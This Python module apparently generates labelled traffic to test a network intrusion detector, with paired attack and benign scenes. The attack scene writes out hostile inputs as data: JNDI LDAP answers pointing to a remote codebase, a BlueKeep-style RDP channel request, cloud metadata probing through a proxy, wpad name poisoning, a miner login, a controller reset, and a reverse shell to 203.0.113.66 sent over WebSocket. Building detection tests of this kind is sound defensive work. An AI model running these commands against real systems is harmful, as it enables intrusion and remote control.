"""Infrastructure by its protocols: rsync, microsocks and Xvfb as they are, curl for LDAP and SOCKS; directory, names, desktop and controller
as stand-ins."""

import base64
import os
import struct
import time
import zlib

from .common import begin
from .scenes import scene
from .web import reply, site

NEEDS = dict(rsync="rsync", microsocks="microsocks", Xvfb="xvfb", xdpyinfo="x11-utils")
WALLET = "4" + "8Ainert" * 13 + "abc"


def tlv(tag, *parts):
    body = b"".join(parts)
    size = bytes([len(body)]) if len(body) < 128 else b"\x82" + struct.pack(">H", len(body))
    return bytes([tag]) + size + body


def ldap_message(number, operation):
    return tlv(0x30, tlv(2, bytes([number])), operation)


def ldap_result(tag, code=0, text=b""):
    return tlv(tag, tlv(10, bytes([code])), tlv(4), tlv(4, text))


def directory(host, port, attributes):
    """Answers every bind but one by name, and every search with one entry."""

    def handle(c):
        while True:
            said = c.recv(4096)
            if not said:
                return
            number, tag = said[4], said[5]
            if tag == 0x60:
                c.sendall(ldap_message(number, ldap_result(0x61, 49 if b"guest" in said else 0)))
            elif tag == 0x63:
                entry = tlv(0x64, tlv(4, b"cn=x,dc=shop"), tlv(0x30, *(tlv(0x30, tlv(4, name), tlv(0x31, tlv(4, value))) for name, value in attributes)))
                c.sendall(ldap_message(number, entry) + ldap_message(number, ldap_result(0x65)))
            elif tag == 0x42:
                return

    host.listen(port, handle)


def frame(text, compress=False):
    """A text message of a client, as RFC 6455 and RFC 7692 have it."""
    payload = text.encode()
    if compress:
        deflate = zlib.compressobj(wbits=-15)
        payload = (deflate.compress(payload) + deflate.flush(zlib.Z_SYNC_FLUSH))[:-4]
    mask = b"\x12\x34\x56\x78"
    size = bytes([0x80 | len(payload)]) if len(payload) < 126 else b"\xfe" + struct.pack(">H", len(payload))
    return bytes([0xC1 if compress else 0x81]) + size + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(payload))


def chat(host, port):
    def handle(c):
        c.recv(4096)
        c.sendall(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\nSec-WebSocket-Extensions: permessage-deflate\r\n\r\n")
        while c.recv(4096):
            c.sendall(b"\x81\x02ok")

    host.listen(port, handle)


UPGRADE = (b"GET /console HTTP/1.1\r\nHost: web\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
           b"Sec-WebSocket-Extensions: permessage-deflate\r\n\r\n")


def rdp(channels):
    """A connection request, and a client's part of MCS that asks for channels."""
    def tpkt(body):
        return struct.pack(">BBH", 3, 0, 4 + len(body)) + body

    def packed(body):
        return struct.pack(">H", 0x8000 | len(body)) + body

    core = struct.pack("<IHHHHII", 0x00080004, 1024, 768, 0xCA01, 0xAA03, 0x409, 2600) + "node".encode("utf-16le").ljust(32, b"\0") + struct.pack("<III", 4, 0, 12) + bytes(64)
    blocks = struct.pack("<HH", 0xC001, 4 + len(core)) + core
    names = struct.pack("<I", len(channels)) + b"".join(name.ljust(8, b"\0") + b"\0\0\0\x80" for name in channels)
    blocks += struct.pack("<HH", 0xC003, 4 + len(names)) + names
    gcc = b"\0\x05\0\x14\x7c\0\x01" + packed(b"\0\x08\0\x10\0\x01\xc0\0Duca" + packed(blocks))
    parameters = tlv(0x30, *(tlv(2, bytes([n])) for n in (34, 2, 0, 1, 0, 1, 255, 2)))
    body = tlv(4, b"\x01") + tlv(4, b"\x01") + b"\x01\x01\xff" + parameters * 3 + tlv(4, gcc)
    return (tpkt(b"\x0e\xe0\0\0\0\0\0\x01\0\x08\0\0\0\0\0"), tpkt(b"\x02\xf0\x80\x7f\x65\x82" + struct.pack(">H", len(body)) + body))


def desktop(host):
    def handle(c):
        c.recv(4096)
        c.sendall(b"\x03\0\0\x13\x0e\xd0\0\0\x12\x34\0\x02\0\x08\0\0\0\0\0")
        c.recv(4096)

    host.listen(3389, handle)


def name(text):
    return b"".join(bytes([len(part)]) + part.encode() for part in text.split(".")) + b"\0"


def question(text):
    return struct.pack(">HHHHHH", 7, 0, 1, 0, 0, 0) + name(text) + struct.pack(">HH", 1, 1)


def answer(text, address):
    return struct.pack(">HHHHHH", 7, 0x8400, 0, 1, 0, 0) + name(text) + struct.pack(">HHIH", 1, 1, 120, 4) + bytes(map(int, address.split(".")))


def netbios(text, address=None):
    letters = text.upper().ljust(15).encode() + b"\0"
    coded = b"\x20" + b"".join(bytes([0x41 + (b >> 4), 0x41 + (b & 15)]) for b in letters) + b"\0"
    if address is None:
        return struct.pack(">HHHHHH", 9, 0x0110, 1, 0, 0, 0) + coded + struct.pack(">HH", 0x20, 1)
    return struct.pack(">HHHHHH", 9, 0x8500, 0, 1, 0, 0) + coded + struct.pack(">HHIHH", 0x20, 1, 60, 6, 0) + bytes(map(int, address.split(".")))


def datagram(host, to, port, data):
    s = host.socket(kind=2)
    s.setsockopt(1, 6, 1)
    try:
        s.bind(("", port))
        s.sendto(data, (to, port))
    finally:
        s.close()


def enip(command, body=b""):
    return struct.pack("<HHII8sI", command, len(body), 0, 0, b"inert\0\0\0", 0) + body


def cip(request):
    return enip(0x6F, bytes(6) + struct.pack("<HHHHH", 2, 0, 0, 0xB2, len(request)) + request)


def controller(host):
    def handle(c):
        while True:
            said = c.recv(4096)
            if not said:
                return
            c.sendall(enip(said[0], said[24:] if said[0] == 0x65 else bytes(6) + struct.pack("<HHHHH", 2, 0, 0, 0xB2, 4) + bytes([said[40] | 0x80]) + bytes(3)))

    host.listen(44818, handle)


def pool(host, port):
    def handle(c):
        while c.recv(4096):
            c.sendall(b'{"id":1,"jsonrpc":"2.0","error":null,"result":{"id":"w","status":"OK"}}\n')

    host.listen(port, handle)


def setting(lab, who):
    client, infra, other = lab.host(*who), lab.host("infra", 30), lab.host("other", 31).also("169.254.169.254")
    site(other, 80, [(r"", reply(200, "ok"))])
    site(other, 2375, [(r"", reply(200, "{}"))])
    site(other, 10250, [(r"", reply(200, "{}"))])
    infra.start("microsocks", "-p", "1080", port=1080)
    folder = lab.path("backup")
    os.makedirs(folder)
    lab.write("backup/file", "inert\n")
    conf = lab.write("rsyncd.conf", f"use chroot = no\n[backup]\npath = {folder}\nread only = yes\ncomment = nightly\n")
    infra.start("rsync", "--daemon", "--no-detach", f"--config={conf}", port=873)
    desktop(infra), controller(infra), chat(infra, 8088), pool(infra, 8081)
    return client, infra, other


def through(client, infra, url):
    client.run("curl", "-s", "-m", "5", "--socks5-hostname", f"{infra.ip}:1080", url)


@scene("attacks-infrastructure", **NEEDS)
def attacks(lab):
    """JNDI answers and searches over LDAP, a proxy into the network, BlueKeep's channel, names answered for, a shell over WebSocket, a wallet, modules listed, a device reset"""
    client, infra, other = setting(lab, ("attacker", 66))
    directory(infra, 1389, [(b"javaClassName", b"foo"), (b"javaCodeBase", b"http://10.77.0.66:8080/"), (b"objectClass", b"javaNamingReference"), (b"javaFactory", b"Inert")])
    directory(infra, 1390, [(b"javaClassName", b"foo"), (b"javaSerializedData", b"\xac\xed\0\x05inert")])
    directory(infra, 389, [(b"cn", b"svc")])
    infra.start("Xvfb", ":0", "-screen", "0", "64x64x8", "-listen", "tcp", "-ac", "-nolisten", "unix", port=6000)
    begin(lab)
    for port in (1389, 1390):
        client.run("curl", "-s", "-m", "5", f"ldap://{infra.ip}:{port}/x")
    for wanted in ("(&(objectClass=user)(servicePrincipalName=*))", "(userAccountControl:1.2.840.113556.1.4.803:=4194304)"):
        client.run("curl", "-s", "-m", "5", "-g", f"ldap://{infra.ip}/dc=shop?cn?sub?{wanted.replace('&', '%26')}")
    for _ in range(12):
        client.run("curl", "-s", "-m", "5", "-u", "cn=guest:inert", f"ldap://{infra.ip}/dc=shop?cn?sub?(cn=x)")
    for url in ("http://169.254.169.254/latest/", f"http://{other.ip}:2375/info", f"http://{other.ip}:10250/pods"):
        through(client, infra, url)
    first, second = rdp([b"MS_T120", b"rdpsnd"])
    client.talk(infra.ip, 3389, first, second)
    client.run("xdpyinfo", "-display", f"{infra.ip}:0", env={"XAUTHORITY": "/dev/null"})
    datagram(client, "10.77.0.255", 5355, answer("wpad", client.ip))
    datagram(client, "10.77.0.255", 5353, answer("wpad.local", client.ip))
    datagram(client, infra.ip, 137, netbios("wpad", client.ip))
    client.talk(infra.ip, 8088, UPGRADE, frame("bash -i >& /dev/tcp/203.0.113.66/4444 0>&1", compress=True))
    client.talk(infra.ip, 8081, b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"' + WALLET.encode() + b'","pass":"x","agent":"own/1"}}\n')
    client.run("rsync", f"rsync://{infra.ip}/")
    client.talk(infra.ip, 44818, enip(0x65, b"\1\0\0\0"), cip(b"\x05\x02\x20\x01\x24\x01\x00"))
    time.sleep(0.3)


@scene("benign-infrastructure", **NEEDS)
def benign(lab):
    """a directory searched, one mistyped password, a proxy to a web site, a desktop without odd channels, names asked for, a chat, JSON-RPC, a backup fetched, a device read"""
    client, infra, other = setting(lab, ("admin", 12))
    directory(infra, 389, [(b"cn", b"ann"), (b"mail", b"ann@shop.example"), (b"description", b"javaFactory and javaCodeBase explained")])
    cookie = base64.b16decode("00112233445566778899AABBCCDDEEFF")
    entry = b"\xff\xff\0\0\0\0\0\x12MIT-MAGIC-COOKIE-1\0\x10" + cookie
    auth = lab.write("xauth", entry)
    infra.start("Xvfb", ":0", "-screen", "0", "64x64x8", "-listen", "tcp", "-auth", auth, "-nolisten", "unix", port=6000)
    begin(lab)
    for wanted in ("(mail=*)", "(servicePrincipalName=HTTP/web.shop)", "(userAccountControl:1.2.840.113556.1.4.803:=2)"):
        client.run("curl", "-s", "-m", "5", "-g", f"ldap://{infra.ip}/dc=shop?cn?sub?{wanted}")
    client.run("curl", "-s", "-m", "5", "-u", "cn=guest:inert", f"ldap://{infra.ip}/dc=shop?cn?sub?(cn=x)")
    through(client, infra, f"http://{other.ip}/")
    first, second = rdp([b"rdpdr", b"cliprdr", b"rdpsnd"])
    client.talk(infra.ip, 3389, first, second)
    client.run("xdpyinfo", "-display", f"{infra.ip}:0", env={"XAUTHORITY": auth})
    datagram(client, "10.77.0.255", 5355, question("wpad"))
    datagram(client, "10.77.0.255", 5353, question("wpad.local"))
    datagram(client, "10.77.0.255", 5353, answer("printer.local", client.ip))
    datagram(client, "10.77.0.255", 137, netbios("wpad"))
    datagram(client, infra.ip, 137, netbios("printer", client.ip))
    client.talk(infra.ip, 8088, UPGRADE, frame("what does /dev/tcp do?"), frame("the files are in /dev, hello hello hello", compress=True))
    client.talk(infra.ip, 8081, b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"ann@shop.example","pass":"x","agent":"desk/1"}}\n')
    client.run("rsync", f"rsync://{infra.ip}/backup/file", lab.path("fetched"))
    client.talk(infra.ip, 44818, enip(0x65, b"\1\0\0\0"), cip(b"\x0e\x03\x20\x01\x24\x01\x30\x07"))
    time.sleep(0.3)
